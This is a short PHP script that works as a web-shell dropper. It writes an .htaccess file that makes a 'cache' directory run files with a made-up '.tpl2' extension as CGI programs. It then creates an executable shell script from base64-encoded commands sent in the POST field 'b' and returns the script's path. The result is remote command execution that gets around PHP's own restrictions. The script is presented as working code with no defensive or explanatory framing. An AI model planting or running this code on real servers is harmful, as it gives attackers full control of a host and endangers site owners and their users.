<?php
// Makes the directory run CGI programs with a made-up extension, then drops one there.
$dir = __DIR__ . '/cache/';
@mkdir($dir);
file_put_contents($dir . '.htaccess', "Options +FollowSymLinks +ExecCGI\nAddHandler cgi-script .tpl2");
file_put_contents($dir . 'run.tpl2', "#!/bin/sh\necho\n" . base64_decode($_POST['b']));
chmod($dir . 'run.tpl2', 0755);
echo 'cache/run.tpl2';
